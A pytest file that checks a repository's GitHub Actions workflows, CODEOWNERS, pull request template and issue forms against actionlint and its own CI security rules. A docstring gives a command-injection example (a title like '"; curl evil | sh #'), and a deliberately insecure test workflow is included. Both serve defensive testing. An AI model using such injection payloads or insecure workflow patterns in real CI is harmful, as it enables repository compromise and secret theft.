"""The repository's GitHub layer: workflows, CODEOWNERS, the pull request template, issue forms.

Two kinds of check run over every file in .github/workflows/:

- actionlint (rhysd/actionlint, compiled to WebAssembly; tests/tools/, installed by
  scripts/ensure-test-tools.sh) for syntax, expressions, action inputs and inline use of
  untrusted values;
- this project's own security rules, which actionlint does not know: no `pull_request_target`;
  nothing that runs for a pull request may hold write access (no `permissions:` means the
  repository's default, which may be write); the `workflow_run` workflow never checks out or
  fetches the pull request's code; no untrusted event value is pasted into a script; and every
  `make` target a workflow calls exists, so the workflows run what a person runs locally.

Each rule is also fed a workflow that breaks it, so a rule that stopped working would show.
"""

from __future__ import annotations

import fnmatch
import importlib.util
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from conftest import EXAMPLE, ROOT

GITHUB = ROOT / ".github"
WORKFLOWS = GITHUB / "workflows"
TOOLS = ROOT / "tests" / "tools"
ACTIONLINT = TOOLS / "actionlint.cjs"
ACTIONLINT_PACKAGE = TOOLS / "node_modules" / "@tktco" / "node-actionlint"
MARKER = "<!-- ordinarily-change-summary -->"


# --- reading workflows ------------------------------------------------------------------------

def load_workflow(path: Path) -> dict:
    """A workflow as a dict. YAML 1.1 reads the key `on` as True: it is put back as "on"."""
    data = yaml.safe_load(path.read_text("utf-8"))
    assert isinstance(data, dict), f"{path.name}: not a YAML mapping"
    if True in data:
        data["on"] = data.pop(True)
    return data


def triggers(workflow: dict) -> dict[str, Any]:
    """The events a workflow runs on, whichever of the three forms `on:` takes."""
    on = workflow.get("on")
    if isinstance(on, str):
        return {on: None}
    if isinstance(on, list):
        return dict.fromkeys(on)
    return dict(on or {})


def jobs(workflow: dict) -> dict[str, dict]:
    return {name: job or {} for name, job in (workflow.get("jobs") or {}).items()}


def steps(job: dict) -> list[dict]:
    return [step or {} for step in job.get("steps") or []]


def run_steps(workflow: dict) -> Iterator[tuple[str, dict, dict]]:
    """(job id, job, step) for each step with a `run:` script."""
    for name, job in jobs(workflow).items():
        for step in steps(job):
            if "run" in step:
                yield name, job, step


def where(job_id: str, step: dict) -> str:
    label = step.get("name") or step.get("uses") or str(step.get("run", "")).splitlines()[0]
    return f"job '{job_id}', step '{label}'"


# --- the project's rules: each returns a list of problems, empty when the workflow keeps it ---

def pull_request_target_problems(workflow: dict) -> list[str]:
    if "pull_request_target" in triggers(workflow):
        return ["runs on pull_request_target, which gives pull request code write access and "
                "secrets: use pull_request, and a workflow_run workflow for anything that writes"]
    return []


def _writes(permissions: Any) -> bool:
    """Whether a `permissions:` value grants any write access. None (not set) is the
    repository's default token, which may be read and write, so it counts as write."""
    if permissions is None:
        return True
    if isinstance(permissions, str):
        return permissions != "read-all"
    if isinstance(permissions, dict):
        return any(str(value) == "write" for value in permissions.values())
    return True


def pull_request_permission_problems(workflow: dict) -> list[str]:
    """Nothing that runs on `pull_request` may be able to write."""
    if "pull_request" not in triggers(workflow):
        return []
    problems = []
    top = workflow.get("permissions")
    if top is not None and _writes(top):
        problems.append(f"runs on pull_request with write permissions for every job: {top}")
    for name, job in jobs(workflow).items():
        effective = job.get("permissions", top)
        if effective is None:
            problems.append(f"job '{name}' runs on pull_request with the repository's default "
                            "token permissions (which may be write): set `permissions: "
                            "contents: read`")
        elif _writes(effective):
            problems.append(f"job '{name}' runs on pull_request with write permissions: "
                            f"{effective}")
    return problems


GIT_FETCH = re.compile(r"\bgit\s+(?:-[cC]\s+\S+\s+|-\S+\s+)*"
                       r"(?:fetch|checkout|switch|pull|clone|worktree|reset|restore)\b"
                       r"|\bgh\s+(?:pr\s+checkout|repo\s+clone)\b")
PR_REF = re.compile(r"head_sha|head_branch|head_ref|head_repository|head\.sha|head\.ref|"
                    r"refs/pull|pull/\d|pull/\$")


def workflow_run_checkout_problems(workflow: dict) -> list[str]:
    """A workflow_run workflow holds write access, so it must never get the pull request's code:
    no checkout of another ref or repository, no script that fetches or checks out its commit."""
    if "workflow_run" not in triggers(workflow):
        return []
    problems = []
    top_env = workflow.get("env") or {}
    for name, job in jobs(workflow).items():
        for step in steps(job):
            uses = str(step.get("uses", ""))
            if uses.startswith("actions/checkout"):
                for key in ("ref", "repository"):
                    if key in (step.get("with") or {}):
                        problems.append(f"{where(name, step)}: checks out with `{key}:` in a "
                                        "workflow_run workflow (it must take the default branch)")
            script = str(step.get("run", ""))
            if not script:
                continue
            if re.search(r"\bgh\s+pr\s+checkout\b", script):
                problems.append(f"{where(name, step)}: `gh pr checkout` in a workflow_run "
                                "workflow")
                continue
            env = {**top_env, **(job.get("env") or {}), **(step.get("env") or {})}
            tainted = [var for var, value in env.items() if PR_REF.search(str(value))]
            refers = PR_REF.search(script) or any(
                re.search(rf"\$\{{?{re.escape(var)}\b", script) for var in tainted)
            if GIT_FETCH.search(script) and refers:
                problems.append(f"{where(name, step)}: fetches or checks out the pull request's "
                                "commit in a workflow_run workflow")
    return problems


EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
# Values an outsider can choose: any github.event field except those GitHub itself sets to a
# number, an id, a commit or a fixed word; the head branch; and workflow_dispatch inputs.
EVENT_VALUE = re.compile(r"\bgithub\.event((?:\.[A-Za-z0-9_*-]+|\[[^\]]*\])+)")
SAFE_LAST = {"number", "id", "sha", "head_sha", "before", "after", "run_id", "run_number",
             "run_attempt", "action", "conclusion", "status", "event", "merged", "draft",
             "html_url", "created_at", "updated_at", "forced", "deleted", "created"}
OTHER_UNTRUSTED = re.compile(r"\bgithub\.head_ref\b|\binputs\.[A-Za-z0-9_-]+|"
                             r"\bgithub\.event\.inputs\b")


def untrusted_values(expression: str) -> list[str]:
    found = [m.group(0) for m in OTHER_UNTRUSTED.finditer(expression)]
    for match in EVENT_VALUE.finditer(expression):
        last = re.split(r"[.\[]", match.group(1))[-1].strip("]'\"")
        if last not in SAFE_LAST and not match.group(0).startswith("github.event.inputs"):
            found.append(match.group(0))
    return found


def inline_untrusted_problems(workflow: dict) -> list[str]:
    """Untrusted values go to a script through `env:` only; pasted in with ${{ }}, a title or
    branch name such as `"; curl evil | sh #` would run as a command."""
    problems = []
    for name, _job, step in run_steps(workflow):
        for expression in EXPRESSION.findall(str(step["run"])):
            for value in untrusted_values(expression):
                problems.append(f"{where(name, step)}: `{value}` is pasted into the script: "
                                "pass it through `env:` and use \"$VARIABLE\"")
    return problems


MAKE_CALL = re.compile(r"(?:^|[;&|(]|\b(?:then|do|else)\b)[ \t]*make((?:[ \t]+[^\s;&|)#<>]+)*)",
                       re.MULTILINE)


def make_targets_called(script: str) -> list[str]:
    """The targets of each `make` command in a shell script (variables and options left out)."""
    targets = []
    for match in MAKE_CALL.finditer(script):
        words = match.group(1).split()
        skip = False
        for word in words:
            if skip:
                skip = False
            elif word in ("-C", "-f", "--directory", "--file"):
                skip = True
            elif not word.startswith("-") and "=" not in word:
                targets.append(word.strip("'\""))
    return targets


def makefile_targets(makefile: Path = ROOT / "Makefile") -> set[str]:
    targets = set()
    for line in makefile.read_text("utf-8").splitlines():
        match = re.match(r"^([A-Za-z0-9_.\-/ ]+?)\s*::?(?!=)", line)
        if match and not line.startswith("\t"):
            targets.update(t for t in match.group(1).split() if not t.startswith("."))
    return targets


def make_target_problems(workflow: dict, targets: set[str]) -> list[str]:
    problems = []
    for name, _job, step in run_steps(workflow):
        for target in make_targets_called(str(step["run"])):
            if target not in targets:
                problems.append(f"{where(name, step)}: `make {target}`, but the Makefile has no "
                                f"target '{target}'")
    return problems


PINNED = re.compile(r"^[^@\s]+@(v\d+(\.\d+){0,2}|[0-9a-f]{40})$")
LEAST_MAJOR = {"actions/checkout": 4, "actions/setup-python": 5, "actions/upload-artifact": 4,
               "actions/download-artifact": 4}


def action_problems(workflow: dict) -> list[str]:
    """Actions pinned to a version tag (or a commit), recent enough; python 3.11; timeouts."""
    problems = []
    for name, job in jobs(workflow).items():
        if "uses" not in job and not job.get("timeout-minutes"):
            problems.append(f"job '{name}' has no timeout-minutes")
        for step in steps(job):
            uses = step.get("uses")
            if not uses or uses.startswith(("./", "docker://")):
                continue
            if not PINNED.match(uses):
                problems.append(f"{where(name, step)}: `{uses}` is not pinned to a version tag "
                                "(for example @v4) or a commit")
                continue
            action, ref = uses.split("@")
            major = re.match(r"v(\d+)", ref)
            if action in LEAST_MAJOR and major and int(major.group(1)) < LEAST_MAJOR[action]:
                problems.append(f"{where(name, step)}: `{uses}` is older than "
                                f"@v{LEAST_MAJOR[action]}")
            if action == "actions/setup-python":
                version = str((step.get("with") or {}).get("python-version"))
                if version != "3.11":
                    problems.append(f"{where(name, step)}: python-version {version}, not 3.11")
    return problems


def problems_in(path: Path, targets: set[str] | None = None) -> list[str]:
    workflow = load_workflow(path)
    found = (pull_request_target_problems(workflow) + pull_request_permission_problems(workflow)
             + workflow_run_checkout_problems(workflow) + inline_untrusted_problems(workflow)
             + make_target_problems(workflow, makefile_targets() if targets is None else targets)
             + action_problems(workflow))
    return [f"{path.name}: {problem}" for problem in found]


# --- actionlint -------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def actionlint() -> list[str]:
    """The command that runs actionlint. In CI (CI=true) a missing tool fails the test; on a
    machine without Node.js the test is skipped; with Node.js it must be installed."""
    node = shutil.which("node")
    if node is None:
        if os.environ.get("CI"):
            pytest.fail("Node.js is missing, so actionlint cannot check the workflows: "
                        "scripts/ensure-test-tools.sh installs it ('make test-tools')")
        pytest.skip("Node.js is not installed: the workflows are not checked by actionlint")
    if not ACTIONLINT_PACKAGE.is_dir():
        pytest.fail("actionlint is not installed in tests/tools: run 'make test-tools' "
                    "(npm ci --prefix tests/tools)")
    return [node, str(ACTIONLINT)]


def run_actionlint(command: list[str], paths: list[Path]) -> list[dict]:
    result = subprocess.run([*command, *map(str, paths)], capture_output=True, text=True,
                            timeout=120, cwd=ROOT)
    assert result.returncode in (0, 1), f"actionlint could not run:\n{result.stderr}"
    findings = json.loads(result.stdout)
    assert (result.returncode == 1) == bool(findings), result.stdout
    return findings


def describe(findings: list[dict]) -> str:
    return "\n".join(f"{Path(f['file']).name}:{f['line']}:{f['column']}: {f['message']} "
                     f"[{f['kind']}]" for f in findings)


def workflow_files() -> list[Path]:
    return sorted([*WORKFLOWS.glob("*.yml"), *WORKFLOWS.glob("*.yaml")])


def test_actionlint_passes_every_workflow(actionlint: list[str]) -> None:
    findings = run_actionlint(actionlint, workflow_files())
    assert not findings, "actionlint found problems:\n" + describe(findings)


def test_actionlint_catches_a_bad_workflow(actionlint: list[str], tmp_path: Path) -> None:
    bad = tmp_path / "bad.yml"
    bad.write_text(BAD_WORKFLOW, "utf-8")
    messages = describe(run_actionlint(actionlint, [bad]))
    assert "github.event.pull_request.title" in messages  # untrusted value in a script
    assert "fetch-dept" in messages  # no such input of actions/checkout@v4
    assert "timeout-minute" in messages  # no such key


# --- the project's rules on the real workflows -------------------------------------------------

def test_there_are_workflows() -> None:
    names = {path.name for path in workflow_files()}
    assert {"pull-request.yml", "pull-request-comment.yml", "publish.yml",
            "review-dates.yml", "set-up.yml"} <= names


@pytest.mark.parametrize("path", workflow_files(), ids=lambda p: p.name)
def test_workflow_keeps_the_rules(path: Path) -> None:
    problems = problems_in(path)
    assert not problems, "\n".join(problems)


def test_makefile_targets_are_read() -> None:
    targets = makefile_targets()
    assert {"setup", "test", "build", "check-content", "stale-report", "diff",
            "publish"} <= targets
    assert not {".PHONY", "$(STAMP)"} & targets


def by_name() -> dict[str, dict]:
    return {path.name: load_workflow(path) for path in workflow_files()}


def targets_of(workflow: dict) -> set[str]:
    return {t for _, _, step in run_steps(workflow) for t in make_targets_called(step["run"])}


def test_pull_request_workflow() -> None:
    workflow = by_name()["pull-request.yml"]
    assert workflow["name"] == "Pull request"
    on = triggers(workflow)
    assert set(on["pull_request"]["types"]) == {"opened", "synchronize", "reopened", "closed"}
    assert workflow["permissions"] == {"contents": "read"}
    assert {"test", "check-content", "build", "setup"} <= targets_of(workflow)
    for job in jobs(workflow).values():
        for step in steps(job):
            if str(step.get("uses", "")).startswith("actions/checkout"):
                assert step["with"]["fetch-depth"] == 0
    scripts = "\n".join(step["run"] for _, _, step in run_steps(workflow))
    assert "ordinarily diff" in scripts and "--format json" in scripts
    uploads = [step["with"]["name"] for job in jobs(workflow).values() for step in steps(job)
               if str(step.get("uses", "")).startswith("actions/upload-artifact")]
    assert sorted(uploads) == ["change-summary", "change-summary", "site"]
    # On `closed`, only the small job runs.
    closed = [name for name, job in jobs(workflow).items()
              if job.get("if") == "github.event.action == 'closed'"]
    assert closed == ["closed"]
    for name, job in jobs(workflow).items():
        if name != "closed":
            assert job.get("if") == "github.event.action != 'closed'", name


def test_tests_run_on_push_to_main() -> None:
    found = [workflow for workflow in by_name().values()
             if "main" in ((triggers(workflow).get("push") or {}).get("branches") or [])
             and "test" in targets_of(workflow)]
    assert found, "no workflow runs `make test` on a push to main"


def test_comment_workflow_follows_the_pull_request_workflow() -> None:
    workflows = by_name()
    comment = workflows["pull-request-comment.yml"]
    watched = triggers(comment)["workflow_run"]
    assert watched["types"] == ["completed"]
    names = {workflow.get("name") for workflow in workflows.values()}
    assert set(watched["workflows"]) <= names, "workflow_run names a workflow that is not here"
    assert comment["permissions"] == {}
    granted = {}
    for name, job in jobs(comment).items():
        granted.update(job.get("permissions") or {})
        assert set(job.get("permissions") or {}) <= {"contents", "pull-requests", "actions"}, name
    assert granted == {"contents": "write", "pull-requests": "write", "actions": "read"}
    downloads = [step for job in jobs(comment).values() for step in steps(job)
                 if str(step.get("uses", "")).startswith("actions/download-artifact")]
    assert downloads
    for step in downloads:
        assert step["with"]["run-id"] == "${{ github.event.workflow_run.id }}"
        assert "github-token" in step["with"]
    text = (WORKFLOWS / "pull-request-comment.yml").read_text("utf-8")
    assert "github.event.workflow_run.head_repository.full_name == github.repository" in text
    assert "make publish PREVIEW=" in text and "REMOVE=1" in text
    assert "github-actions[bot]" in text


def concurrency_groups(workflow: dict) -> dict[str, dict]:
    """The concurrency of each job that can push (its own, else the workflow's)."""
    groups = {}
    for name, job in jobs(workflow).items():
        permissions = job.get("permissions", workflow.get("permissions")) or {}
        if isinstance(permissions, dict) and permissions.get("contents") == "write":
            groups[name] = job.get("concurrency") or workflow.get("concurrency") or {}
    return groups


def test_pages_branch_writes_share_one_queue() -> None:
    workflows = by_name()
    publish = concurrency_groups(workflows["publish.yml"])
    preview = concurrency_groups(workflows["pull-request-comment.yml"])
    assert publish and preview
    groups = {(c.get("group"), c.get("cancel-in-progress")) for c in [*publish.values(),
                                                                        *preview.values()]}
    assert len(groups) == 1, groups
    group, cancel = groups.pop()
    assert group and cancel is False


def github_glob(pattern: str) -> re.Pattern:
    """GitHub's filter pattern for tags, as a regular expression (*, ** and [...] classes)."""
    out = ""
    for token in re.findall(r"\*\*|\*|\?|\[[^\]]*\]|.", pattern):
        out += {"**": ".*", "*": "[^/]*", "?": "."}.get(
            token, token if token.startswith("[") and len(token) > 1 else re.escape(token))
    return re.compile(out + r"\Z")


def test_publish_workflow() -> None:
    workflow = by_name()["publish.yml"]
    on = triggers(workflow)
    assert on["push"]["branches"] == ["main"]
    assert "edition" in on["workflow_dispatch"]["inputs"]
    assert workflow["permissions"] == {"contents": "write"}
    tags = on["push"]["tags"]
    assert any(github_glob(tag).match("2026-27") for tag in tags)
    assert not any(github_glob(tag).match(name) for tag in tags for name in ("v1.2.0", "2026"))
    settings = yaml.safe_load((EXAMPLE / "ordinarily.yml").read_text("utf-8"))
    pattern = (settings.get("editions") or {}).get("tags", "20[0-9][0-9]-[0-9][0-9]")
    assert pattern in tags, (f"ordinarily.yml's edition tags are '{pattern}': change the tags "
                             "filter of .github/workflows/publish.yml to match")
    checkouts = [step for job in jobs(workflow).values() for step in steps(job)
                 if str(step.get("uses", "")).startswith("actions/checkout")]
    assert checkouts and all(step["with"]["fetch-depth"] == 0 for step in checkouts)
    assert "publish" in targets_of(workflow)


def test_set_up_workflow_commits_what_new_area_writes_in_a_fork(tmp_path: Path) -> None:
    from ordinarily.scaffold import scaffold

    workflow = by_name()["set-up.yml"]
    on = triggers(workflow)
    assert set(on) == {"workflow_dispatch"}
    assert on["workflow_dispatch"]["inputs"]["name"]["required"] is True
    assert workflow["permissions"] == {"contents": "write"}
    script = "\n".join(str(step["run"]) for _, _, step in run_steps(workflow))
    assert '.venv/bin/ordinarily new-area . "${options[@]}"' in script
    assert {"setup", "validate", "build"} <= targets_of(workflow)
    added = re.search(r"^git add (.+)$", script, re.M).group(1).split()
    (tmp_path / "plugins/ordinarily").mkdir(parents=True)  # a fork, as new-area sees one
    written = scaffold.new_area(tmp_path, scaffold.Council.from_name("Borsetshire"))
    assert sorted(added) == sorted({path.split("/")[0] for path in written})


def test_review_dates_workflow() -> None:
    workflow = by_name()["review-dates.yml"]
    on = triggers(workflow)
    assert on["schedule"] and "workflow_dispatch" in on
    assert workflow["permissions"] == {"contents": "read", "issues": "write"}
    assert "stale-report" in targets_of(workflow)
    text = (WORKFLOWS / "review-dates.yml").read_text("utf-8")
    assert "make stale-report > stale.md" in text
    assert "review-due" in text and "gh issue close" in text


# --- the rules catch what they should ----------------------------------------------------------

BAD_WORKFLOW = """\
name: Bad
on:
  pull_request_target:
  pull_request:
  workflow_run:
    workflows: ["Pull request"]
    types: [completed]
permissions:
  contents: write
jobs:
  build:
    runs-on: ubuntu-latest
    timeout-minute: 5
    steps:
      - uses: actions/checkout@v4
        with:
          fetch-dept: 0
          ref: ${{ github.event.workflow_run.head_sha }}
      - run: echo "${{ github.event.pull_request.title }}"
      - run: git fetch origin "$SHA" && git checkout FETCH_HEAD
        env:
          SHA: ${{ github.event.workflow_run.head_sha }}
      - run: make no-such-target
      - uses: actions/setup-python@main
"""

GOOD_WORKFLOW = """\
name: Good
on:
  pull_request:
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    timeout-minutes: 5
    steps:
      - uses: actions/checkout@v4
      - run: echo "$TITLE" && make test
        env:
          TITLE: ${{ github.event.pull_request.title }}
"""


def write(tmp_path: Path, text: str, name: str = "workflow.yml") -> Path:
    path = tmp_path / name
    path.write_text(text, "utf-8")
    return path


def test_a_good_workflow_passes(tmp_path: Path) -> None:
    assert problems_in(write(tmp_path, GOOD_WORKFLOW)) == []


def test_a_bad_workflow_breaks_every_rule(tmp_path: Path) -> None:
    problems = "\n".join(problems_in(write(tmp_path, BAD_WORKFLOW)))
    for expected in ("pull_request_target", "write permissions", "checks out with `ref:`",
                     "fetches or checks out the pull request's commit",
                     "`github.event.pull_request.title` is pasted", "`make no-such-target`",
                     "no timeout-minutes", "`actions/setup-python@main` is not pinned"):
        assert expected in problems, f"not caught: {expected}\n{problems}"


@pytest.mark.parametrize(("text", "expected"), [
    # `on` in each of its forms
    ("on: pull_request_target\njobs: {}\n", "pull_request_target"),
    ("on: [push, pull_request_target]\njobs: {}\n", "pull_request_target"),
    # permissions: missing means the repository default, which may be write
    ("on: pull_request\njobs:\n  a:\n    runs-on: x\n", "default token permissions"),
    ("on: pull_request\npermissions: write-all\njobs: {}\n", "write permissions"),
    ("on: pull_request\npermissions: {contents: read}\njobs:\n  a:\n    runs-on: x\n"
     "    permissions: {pull-requests: write}\n", "job 'a' runs on pull_request with write"),
    # workflow_run: no checkout of the pull request, however it is spelt
    ("on: workflow_run\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n"
     "        with: {repository: someone/fork}\n", "checks out with `repository:`"),
    ("on: workflow_run\njobs:\n  a:\n    steps:\n      - run: gh pr checkout 12\n",
     "gh pr checkout"),
    ("on: workflow_run\njobs:\n  a:\n    steps:\n      - run: git fetch origin "
     "\"${{ github.event.workflow_run.head_branch }}\"\n", "fetches or checks out"),
    ("on: workflow_run\nenv: {REF: '${{ github.event.workflow_run.head_sha }}'}\njobs:\n  a:\n"
     "    steps:\n      - run: git -c x=y checkout ${REF}\n", "fetches or checks out"),
    # untrusted values pasted into scripts
    ("on: issues\njobs:\n  a:\n    steps:\n      - run: echo ${{ github.event.issue.body }}\n",
     "github.event.issue.body"),
    ("on: pull_request\njobs:\n  a:\n    steps:\n      - run: echo ${{ github.head_ref }}\n",
     "github.head_ref"),
    ("on: workflow_run\njobs:\n  a:\n    steps:\n      - run: |\n          echo \"${{\n"
     "            github.event.workflow_run.head_commit.message }}\"\n", "head_commit.message"),
    ("on: workflow_dispatch\njobs:\n  a:\n    steps:\n      - run: make publish "
     "EDITION=${{ inputs.edition }}\n", "inputs.edition"),
    # make targets
    ("on: push\njobs:\n  a:\n    steps:\n      - run: |\n          make setup\n"
     "          if true; then make tset; fi\n", "`make tset`"),
])
def test_each_rule_catches_its_fault(tmp_path: Path, text: str, expected: str) -> None:
    problems = "\n".join(problems_in(write(tmp_path, text), targets={"setup", "publish"}))
    assert expected in problems, problems


def test_safe_event_values_may_be_pasted() -> None:
    assert untrusted_values(" github.event.pull_request.number ") == []
    assert untrusted_values("github.event.workflow_run.head_sha") == []
    assert untrusted_values("github.event.pull_request.head.ref") == [
        "github.event.pull_request.head.ref"]


def test_make_calls_are_found_only_as_commands() -> None:
    script = ("make setup\nmake build PREVIEW=\"$N\" && make -C . test > out.txt\n"
              "echo 'Run make sure' # make believe\nx=1; make diff BASE=main FORMAT=json\n")
    assert make_targets_called(script) == ["setup", "build", "test", "diff"]


# --- CODEOWNERS ---------------------------------------------------------------------------------

def codeowners_rules(path: Path = GITHUB / "CODEOWNERS") -> list[tuple[str, list[str]]]:
    rules = []
    for line in path.read_text("utf-8").splitlines():
        line = line.split("#", 1)[0].strip()
        if line:
            pattern, *owners = line.split()
            rules.append((pattern, owners))
    return rules


def owners_of(rules: list[tuple[str, list[str]]], file: str) -> tuple[str, list[str]] | None:
    """The rule that decides a file's owners: the last one that matches (GitHub's rule)."""
    decided = None
    for pattern, owners in rules:
        anchored = pattern.startswith("/")
        body = pattern.strip("/")
        if pattern == "*":
            matched = True
        elif pattern.endswith("/"):
            matched = (file.startswith(body + "/") if anchored
                       else f"/{body}/" in f"/{file}")
        else:
            matched = (fnmatch.fnmatch(file, body) if anchored or "/" in body
                       else fnmatch.fnmatch(Path(file).name, body))
        if matched:
            decided = (pattern, owners)
    return decided


def test_codeowners_routes_the_content_to_its_reviewers() -> None:
    rules = codeowners_rules()
    owner = re.compile(r"^@[A-Za-z0-9-]+(/[A-Za-z0-9_.-]+)?$|^[^@\s]+@[^@\s]+\.[a-z]+$")
    for pattern, owners in rules:
        assert owners, f"CODEOWNERS: '{pattern}' has no owner"
        assert all(owner.match(o) for o in owners), f"CODEOWNERS: odd owner on '{pattern}'"
    for file in ("needs/communication-and-interaction/autism.yml",
                 "local-offer/services/example.yml", "content/index.md", "ordinarily.yml",
                 "plugins/ordinarily/cli.py"):
        decided = owners_of(rules, file)
        assert decided and decided[0] != "*", f"CODEOWNERS has no line of its own for {file}"
    guide = owners_of(rules, "needs/taxonomy.yml")[1]
    offer = owners_of(rules, "local-offer/taxonomy.yml")[1]
    engine = owners_of(rules, "plugins/ordinarily/cli.py")[1]
    assert len(guide) > 1 and len(offer) > 1, "content is reviewed by more than one group"
    assert not set(engine) & set(guide), "the engine has its own maintainers"


def test_codeowners_matching_follows_github() -> None:
    rules = [("*", ["@a"]), ("/needs/", ["@b"]), ("docs/", ["@c"]), ("*.md", ["@d"])]
    assert owners_of(rules, "needs/x.yml") == ("/needs/", ["@b"])
    assert owners_of(rules, "other/needs/x.yml") == ("*", ["@a"])
    assert owners_of(rules, "a/docs/x.txt") == ("docs/", ["@c"])
    assert owners_of(rules, "needs/readme.md") == ("*.md", ["@d"])


# --- pull request template and issue forms ---------------------------------------------------

def test_pull_request_template_asks_for_co_production() -> None:
    text = (GITHUB / "pull_request_template.md").read_text("utf-8").lower()
    for words in ("what changed", "why", "parent carers", "children and young people",
                  "practitioners", "send team", "plain english", "review date",
                  "change summary", "preview", "accessibility"):
        assert words in text, f"the pull request template does not mention '{words}'"
    assert text.count("- [ ]") >= 8


FIELD_TYPES = {"markdown", "textarea", "input", "dropdown", "checkboxes"}


def issue_form_problems(path: Path) -> list[str]:
    """GitHub's rules for an issue form, as far as a form can break them silently."""
    try:
        form = yaml.safe_load(path.read_text("utf-8"))
    except yaml.YAMLError as exc:
        return [f"{path.name}: not valid YAML: {exc}"]
    if not isinstance(form, dict):
        return [f"{path.name}: not a YAML mapping"]
    problems = [f"{path.name}: needs a non-empty '{key}'" for key in ("name", "description")
                if not str(form.get(key) or "").strip()]
    body = form.get("body")
    if not isinstance(body, list) or not body:
        return [*problems, f"{path.name}: needs a 'body' list of fields"]
    ids = []
    for number, field in enumerate(body, 1):
        kind = (field or {}).get("type")
        attributes = (field or {}).get("attributes") or {}
        if kind not in FIELD_TYPES:
            problems.append(f"{path.name}: field {number} has type {kind!r}")
        elif kind == "markdown":
            if not attributes.get("value"):
                problems.append(f"{path.name}: markdown field {number} has no value")
        else:
            if not attributes.get("label"):
                problems.append(f"{path.name}: field {number} has no label")
            ids.append(field.get("id"))
            if kind in ("dropdown", "checkboxes") and not attributes.get("options"):
                problems.append(f"{path.name}: field {number} has no options")
    if any(i is None for i in ids) or len(set(ids)) != len(ids):
        problems.append(f"{path.name}: every field needs an id of its own")
    if all(field.get("type") == "markdown" for field in body):
        problems.append(f"{path.name}: a form needs at least one field that is not markdown")
    return problems


def issue_forms() -> list[Path]:
    return sorted(p for p in (GITHUB / "ISSUE_TEMPLATE").glob("*.y*ml")
                  if p.stem != "config")


def test_issue_forms_are_valid() -> None:
    names = {yaml.safe_load(p.read_text("utf-8"))["name"] for p in issue_forms()}
    assert {"Suggest a change to the guide", "Report a service listing",
            "Report an accessibility problem"} <= names
    problems = [problem for path in issue_forms() for problem in issue_form_problems(path)]
    assert not problems, "\n".join(problems)


def test_accessibility_form_asks_what_it_needs() -> None:
    form = yaml.safe_load((GITHUB / "ISSUE_TEMPLATE" / "report-accessibility.yml").read_text())
    labels = " ".join(f["attributes"]["label"].lower() for f in form["body"]
                      if f["type"] != "markdown")
    for words in ("page address", "what happened", "assistive technology"):
        assert words in labels


def test_an_issue_form_with_faults_is_caught(tmp_path: Path) -> None:
    bad = write(tmp_path, "name: x\nbody:\n  - type: input\n    attributes: {}\n"
                          "  - type: text\n", "bad.yml")
    problems = "\n".join(issue_form_problems(bad))
    assert "'description'" in problems and "no label" in problems
    assert "type 'text'" in problems and "id of its own" in problems
    assert "not valid YAML" in issue_form_problems(write(tmp_path, "name: [", "broken.yml"))[0]


def test_issue_config_sends_families_to_the_councils_own_routes() -> None:
    config = yaml.safe_load((GITHUB / "ISSUE_TEMPLATE" / "config.yml").read_text("utf-8"))
    assert config["blank_issues_enabled"] is False
    links = config["contact_links"]
    assert links
    for link in links:
        assert {"name", "url", "about"} <= set(link)
        # GitHub silently drops the whole list when a link is not https (mailto: included).
        assert link["url"].startswith("https://"), link["url"]
    feedback = yaml.safe_load((EXAMPLE / "ordinarily.yml").read_text("utf-8"))["feedback"]
    text = json.dumps(links)
    if feedback.get("form"):
        form = feedback["form"].split("?")[0]
        assert form in text, f"config.yml should link to the feedback form {form}"
    if feedback.get("email"):
        assert feedback["email"] in text, f"config.yml should give {feedback['email']}"


# --- the comment the comment workflow posts ----------------------------------------------------

def comment_module():
    path = GITHUB / "scripts" / "change_summary_comment.py"
    spec = importlib.util.spec_from_file_location("change_summary_comment", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


RUN = "https://github.com/anytown-council/send-guide/actions/runs/7"


def test_comment_carries_the_summary_and_the_preview() -> None:
    compose = comment_module().compose
    body = compose("### Needs\n\n- **Autism**: reworded", commit="a" * 40, run_url=RUN,
                   conclusion="success", preview_url="https://send.example.org.uk/previews/pr-3/")
    assert body.startswith(MARKER + "\n")
    assert "https://send.example.org.uk/previews/pr-3/" in body
    assert "- **Autism**: reworded" in body and "aaaaaaa" in body
    fork = compose("x", commit="b" * 40, run_url=RUN, conclusion="failure", fork=True,
                   site_artifact_url=RUN + "/artifacts/9")
    assert "fork" in fork and RUN + "/artifacts/9" in fork and "did not pass" in fork
    failed = compose(None, commit="c" * 40, run_url=RUN, conclusion="failure", site_built=False)
    assert "did not build" in failed and RUN in failed


def test_a_long_summary_is_cut_to_fit_one_comment() -> None:
    module = comment_module()
    summary = "<details><summary>Services</summary>\n\n```\n" + "\n".join(
        f"- service {n}: changed ünïcode" for n in range(10_000))
    body = module.compose(summary, commit="d" * 40, run_url=RUN, conclusion="success",
                          summary_artifact_url=RUN + "/artifacts/5")
    assert len(body) <= module.LIMIT
    assert "the full summary is in the [change-summary artifact]" in body.lower()
    assert RUN in body.split("stops here")[1]
    cut = body.split("**The change summary is too long")[0]
    assert cut.count("```") % 2 == 0 and cut.count("<details>") == cut.count("</details>")
    short = module.compose("short", commit="d" * 40, run_url=RUN, conclusion="success")
    assert "too long" not in short


def test_comment_script_runs_from_the_command_line(tmp_path: Path) -> None:
    summary = write(tmp_path, "Nothing much.\n", "change-summary.md")
    out = tmp_path / "comment.md"
    result = subprocess.run(
        [sys.executable, str(GITHUB / "scripts" / "change_summary_comment.py"), "--out", str(out),
         "--summary", str(summary), "--commit", "e" * 40, "--run-url", RUN,
         "--conclusion", "success", "--fork", "--site-artifact-url", ""],
        capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    assert out.read_text("utf-8").startswith(MARKER) and "Nothing much." in out.read_text()
